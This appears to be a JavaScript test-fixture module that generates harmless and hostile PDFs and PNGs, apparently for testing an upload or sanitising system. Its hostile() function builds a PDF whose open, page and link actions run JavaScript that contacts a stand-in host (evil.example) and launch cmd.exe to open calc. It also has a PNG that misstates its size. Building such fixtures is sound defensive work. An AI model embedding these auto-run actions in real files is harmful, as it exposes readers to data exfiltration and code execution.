// Papers to hand in: PDF documents and pictures, made here, harmless and hostile.
import { deflateSync } from 'node:zlib';

/** A document of these objects (bodies; number 1 is the catalogue), with its table of contents. */
function pdf(objects) {
  let text = '%PDF-1.7\n';
  const places = objects.map((body, n) => {
    const at = text.length;
    text += `${n + 1} 0 obj\n${body}\nendobj\n`;
    return String(at).padStart(10, '0');
  });
  const at = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((place) => `${place} 00000 n \n`).join('')}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/** A page drawn in black lines, with a block whose shade of grey says its number. */
function drawing(number) {
  const lines = Array.from({ length: 30 }, (_, n) => `60 ${720 - n * 20} ${300 + (n * 37) % 170} 6 re f`).join('\n');
  return `${0.2 * number} g\n440 740 100 60 re f\n0.3 g\n${lines}`;
}

/** A document of so many pages, A4. `catalogue` and `page` stand in the dictionaries. */
export function paper(pages, { catalogue = '', page = '', more = [] } = {}) {
  const first = 3, contents = first + pages;
  const kids = Array.from({ length: pages }, (_, n) => `${first + n} 0 R`).join(' ');
  return pdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
    ...Array.from({ length: pages }, (_, n) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${contents + n} 0 R ${page} >>`),
    ...Array.from({ length: pages }, (_, n) => { const text = drawing(n + 1); return `<< /Length ${text.length} >>\nstream\n${text}\nendstream`; }),
    ...more,
  ]);
}

/** Runs something wherever a reader would run it: when opened, when a page is turned to, on a link, by a form. */
export function hostile() {
  const script = "<< /S /JavaScript /JS (app.alert\\('run'\\); this.submitForm\\('http://evil.example/'\\); fetch\\('http://evil.example/'\\); globalThis.ran = 1;) >>";
  const launch = '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>';
  const link = (action) => `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action} >>`;
  return paper(1, {
    catalogue: `/OpenAction ${script} /AA << /WC ${launch} >> /Names << /JavaScript << /Names [(a) ${script}] >> >>`,
    page: `/AA << /O ${script} /C ${launch} >> /Annots [${link(script)} ${link(launch)} ${link('<< /S /URI /URI (http://evil.example/) >>')}]`,
  });
}

/** A picture of one grey that says it has these sides. */
export function png(width, height, honest = true) {
  const table = Array.from({ length: 256 }, (_, n) => { let c = n; for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1; return c >>> 0; });
  const chunk = (kind, data) => {
    const body = Buffer.concat([Buffer.from(kind), data]);
    const crc = body.reduce((c, byte) => (table[(c ^ byte) & 255] ^ (c >>> 8)) >>> 0, 0xffffffff) ^ 0xffffffff;
    const out = Buffer.alloc(body.length + 8);
    out.writeUInt32BE(data.length);
    body.copy(out, 4);
    out.writeUInt32BE(crc >>> 0, body.length + 4);
    return out;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width);
  header.writeUInt32BE(height, 4);
  header[8] = 8;
  const rows = honest ? Buffer.alloc((width + 1) * height, 0x90).map((byte, n) => (n % (width + 1) === 0 ? 0 : byte)) : Buffer.alloc(10);
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), chunk('IHDR', header), chunk('IDAT', deflateSync(rows)), chunk('IEND', Buffer.alloc(0))]);
}
